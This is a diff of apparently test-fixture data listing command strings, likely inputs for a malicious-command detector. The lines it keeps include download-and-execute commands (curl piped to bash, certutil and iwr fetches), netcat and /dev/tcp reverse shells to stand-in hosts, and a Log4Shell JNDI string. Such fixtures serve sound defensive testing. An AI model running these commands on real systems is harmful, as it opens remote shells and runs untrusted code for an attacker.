@@ -102,11 +102,9 @@ cmd.exe /c whoami
 | systeminfo
 & tasklist /v
 schtasks /create /tn x /tr y
-wmic process list brief
 certutil -urlcache -f http://10.9.9.9/x.exe x.exe
 iwr http://10.9.9.9/a.ps1
-rundll32 shell32.dll,Control_RunDLL x.cpl
-Get-Process | Out-File x.txt",
+rundll32 shell32.dll,Control_RunDLL x.cpl",
             ),
         ),
         (
@@ -170,12 +168,7 @@ ${jndi:ldap://10.5.5.5/a}",
             "command",
             "lines",
             lines(
-                "cat /etc/hosts
-ls -la /root
-cat notes.txt
-wget http://10.6.6.6/x.sh
-curl -s http://10.6.6.6/x | bash
-nc -lvp 4444
+                "curl -s http://10.6.6.6/x | bash
 nc -e /bin/sh 10.6.6.6 99
 ncat 10.6.6.6 99 -e cmd
 bash -i >& /dev/tcp/10.6.6.6/99 0>&1
@@ -183,45 +176,13 @@ python3 -c 'import os'
 perl -e 'print 1'
 ruby -rsocket -e 'exit'
 php -r 'system(1);'
-rm -rf /var/tmp/x
-chmod 777 /tmp/x
-nohup id
-nohup ps
-sudo -l
-env id
-timeout 5 id
-nice -n 5 whoami
-xargs -a /dev/null sh
-stdbuf -i0 id
-flock -u / id
-unshare -r id
 busybox nc 10.6.6.6 99
-ansible-vault view x
-ansible all -m ping
-ansible-galaxy list
-chef-solo -c x.rb
-knife node list
-terraform plan
-netstat -tulpn
-ifconfig eth0
-ps -ef
-uname -r
-whoami
-ifconfig
-ipconfig
 phpinfo()
-hostname -f
-zless /var/log/x.gz
-gunzip -c /tmp/a.gz
-bzcat secrets.bz2
-tac /etc/group
 ;ex +w a b wq
 RCPT TO:<root@box>
 MAIL FROM:<a@b.c>
 \r\nVRFY root
-HELO x
-time; uname
-env --help",
+time; uname",
             ),
         ),
     ]
